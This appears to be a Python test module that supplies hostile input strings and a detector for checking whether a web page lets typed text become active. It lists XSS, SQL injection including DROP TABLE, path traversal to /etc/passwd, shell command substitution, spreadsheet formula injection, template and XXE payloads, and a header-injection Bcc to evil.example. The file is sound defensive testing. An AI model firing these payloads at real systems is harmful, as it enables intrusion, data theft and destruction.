"""Texts that somebody who means harm would type, and what a page that was harmed by one would look like.

Each holds `MARK`, so that it is found again wherever it comes out. `traps` gives the addresses that only a program
that was fooled would fetch.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from xml.etree.ElementTree import Element

from page_checks import parse_page

MARK = "zqhostile"
# What may stand in an attribute is what somebody typed into a field, or what names a thing aloud.
SPOKEN = {"value", "aria-label", "content", "placeholder", "title", "alt"}
LOADS = {
    "script",
    "iframe",
    "object",
    "embed",
    "link",
    "style",
    "base",
    "img",
    "svg",
    "math",
    "video",
    "audio",
    "source",
}
PLACES = {"href", "src", "action", "formaction", "data-src", "srcset", "poster", "style", "class", "id"}


@dataclass(frozen=True)
class Traps:
    """An address and a file that nothing may ever open."""

    url: str
    file: str


def hostile_texts(traps: Traps) -> list[str]:
    """Every text once; those of one line first."""
    url, file = traps.url, traps.file
    return [
        f"<script>window.__pwned=1//{MARK}</script>",
        f"<ScRiPt src={url}/{MARK}.js></sCrIpT>",
        f"</title></textarea></script><script>__pwned=1//{MARK}</script>",
        f"<img src=x onerror=window.__pwned=1 alt={MARK}>",
        f'"><img src="{url}/{MARK}.png" onload=__pwned=1>',
        f"' autofocus onfocus=__pwned=1 x='{MARK}",
        f'" autofocus onfocus="__pwned=1" x="{MARK}',
        f"` onmouseover=__pwned=1 {MARK}",
        f"<svg/onload=__pwned=1>{MARK}",
        f"<svg><animate onbegin=__pwned=1 attributeName=x dur=1s>{MARK}",
        f"<math><mi xlink:href=javascript:__pwned=1>{MARK}",
        f"<iframe srcdoc='<script>parent.__pwned=1</script>'>{MARK}</iframe>",
        f"<object data={url}/{MARK}></object>",
        f"<a href=javascript:__pwned=1>{MARK}</a>",
        f"javascript:__pwned=1//{MARK}",
        f"data:text/html,<script>parent.__pwned=1</script>{MARK}",
        f"<form action={url}><button>{MARK}</button></form>",
        f"<base href={url}/{MARK}/>",
        f"<meta http-equiv=refresh content=0;url={url}/{MARK}>",
        f"<style>@import '{url}/{MARK}.css';</style>",
        f"<link rel=stylesheet href={url}/{MARK}.css>",
        f"<link rel=attachment href=file://{file} title={MARK}>",
        f"<img src=file://{file} alt={MARK}>",
        f"<p style=\"background:url('{url}/{MARK}')\">x</p>",
        f"url({url}/{MARK}) url('file://{file}')",
        f"}} body {{ background: url({url}/{MARK}) }}",
        f"<!-- {MARK} --><!--[if IE]><script>__pwned=1</script><![endif]-->",
        f"<![CDATA[<script>__pwned=1</script>{MARK}]]>",
        f"&lt;script&gt;__pwned=1&lt;/script&gt;{MARK} &#60;b&#62; &amp;amp;",
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{file}">]>&e;{MARK}',
        f"{{{{ 7*7 }}}}{MARK}{{{{ config }}}}",
        f"{{% include '{file}' %}}{MARK}{{# #}}",
        f"${{7*7}} #{{7*7}} <%= 7*7 %> {MARK}",
        f"%s%n%x%(name)s {{0}} {{0.__class__}} {MARK}",
        f'=HYPERLINK("{url}/{MARK}","x")',
        f"=cmd|'/C calc'!A0 {MARK}",
        f"+1+1 {MARK}",
        f"-1+1 {MARK}",
        f"@SUM(1+1) {MARK}",
        f"\t=1+1 {MARK}",
        f"x\r\nBcc: {MARK}@evil.example\r\n\r\n<b>y</b>",
        f"x\nSet-Cookie: {MARK}=1",
        f"2026-11-25 09:00:00 ERROR {MARK}\n2026-11-25 signed_in forged",
        f"\x1b[2J\x1b]0;{MARK}\x07",
        f"\u202egnp.{MARK}\u202c \u2066x\u2069",
        f"z\u200bq\u200dh\ufeff{MARK}\u00ad",
        f"a\0b{MARK}",
        f"\ud7ff\ufffe\uffff\x01\x7f\x85{MARK}",
        f"{MARK}" + "w" * 3000,
        f"שלום عليكم {MARK}",
        f"👩\u200d👩\u200d👧\u200d👦🏴\U000e0067\U000e0062\U000e007f {MARK}",
        f"ＳＣＲＩＰＴ ﹤script﹥ раураl {MARK} ﷽ Z͑ͫ̓a̴l̷g̸o̵",
        f"../../../../etc/passwd {MARK}",
        f"..\\..\\windows\\win.ini%00.png {MARK}",
        f"' OR '1'='1' -- {MARK}",
        f"'; DROP TABLE person; -- {MARK}",
        f"1) UNION ALL VALUES (person) {MARK} \\",
        f"- item {MARK}\n- </li></ul><script>__pwned=1</script>\n\n<p>x",
        f"$(touch {file}) `id` | cat; {MARK}",
        f"(&(uid=*)) *)(uid=* {MARK}",
    ]


def live_html(page: str, *, is_fragment: bool) -> Iterator[str]:
    """Every place on a page where typed text has become something that acts."""
    return live_parts(parse_page(page, is_fragment=is_fragment))


def live_parts(tree: Element) -> Iterator[str]:
    """The same for a page that was read already."""
    for element in tree.iter():
        if not isinstance(element.tag, str):
            if MARK in (element.text or ""):
                yield "a comment"
            continue
        yield from _live_parts(element)


def _live_parts(element: Element) -> Iterator[str]:
    if element.tag in LOADS:
        inside = "".join(element.itertext())
        if MARK in inside or (element.tag == "script" and "nonce" not in element.attrib):
            yield f"<{element.tag}>"
    for name, value in element.attrib.items():
        typed = MARK in value or "__pwned" in value
        if name.startswith("on") or (typed and name not in SPOKEN):
            yield f"{element.tag} {name}={value[:60]}"
        if name in PLACES and value.strip().lower().startswith(("javascript:", "data:", "//", "file:", "http")):
            yield f"{element.tag} leads to {value[:60]}"
